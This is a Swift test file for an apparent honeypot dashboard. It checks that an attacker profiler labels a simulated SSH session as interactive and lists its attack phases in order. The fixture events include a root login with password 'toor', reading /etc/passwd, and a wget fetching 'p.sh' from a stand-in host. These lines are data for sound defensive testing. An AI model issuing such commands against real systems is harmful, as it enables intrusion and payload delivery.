import DecnetAPI
import DecnetCore
import DecnetStore
import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import NIOCore
import Testing

/// The attacker detail and page carry the profiler's judgement of the attacker's stored events.
@Suite("Attacker behaviour in the API and the dashboard")
struct APIBehaviourTests {
    @Test func aShellSessionIsJudgedInteractiveWithItsPhasesInOrder() async throws {
        let fixture = try await APIFixture()
        defer { fixture.remove() }
        let ip = "10.77.0.66"
        func command(_ offset: TimeInterval, _ name: String, _ args: String? = nil, decky: String = "web01") -> LogEntry
        {
            var fields = [("command", name)]
            if let args { fields.append(("args", args)) }
            return SampleEvents.event(
                .commandInput,
                offset,
                ip: ip,
                decky: decky,
                service: "ssh",
                session: decky,
                fields
            )
        }
        _ = try await fixture.store.ingest(
            [
                SampleEvents.event(
                    .loginSuccess,
                    0,
                    ip: ip,
                    decky: "web01",
                    service: "ssh",
                    session: "web01",
                    [("username", "root"), ("password", "toor")]
                ),
                command(5, "id"), command(9, "uname", "-a"), command(14, "cat", "/etc/passwd"),
                command(22, "wget", "http://203.0.113.9/p.sh"),
                SampleEvents.event(
                    .loginSuccess,
                    40,
                    ip: ip,
                    decky: "files",
                    service: "ssh",
                    session: "files",
                    [("username", "root"), ("password", "toor")]
                ),
            ],
            cursor: nil
        )
        try await fixture.test { client in
            let cookie = try await DashboardPageTests.cookie(client)
            let admin = try await client.token("admin", "a-much-better-secret").token
            let detail = try #require(try await client.get("/api/v1/attackers/\(ip)", token: admin).1 as? [String: Any])
            let behaviour = try #require(detail["behaviour"] as? [String: Any], "\(detail)")
            #expect(behaviour["behaviour"] as? String == "interactive", "\(behaviour)")
            let phases = (behaviour["phases"] as? [[String: Any]])?.compactMap { $0["phase"] as? String }
            #expect(
                phases == ["credential-access", "discovery", "execution", "command-and-control", "lateral-movement"]
            )
            #expect((behaviour["timing"] as? [String: Any])?["command_pause"] as? Double ?? 0 > 3)
            let page = try await client.execute(uri: "/attackers/\(ip)", method: .get, headers: [.cookie: cookie]) {
                String(buffer: $0.body)
            }
            #expect(page.contains("id=\"attacker-behaviour\"><strong>interactive</strong>"), "\(page)")
            #expect(page.contains("<strong>command-and-control</strong>"))
        }
    }
}
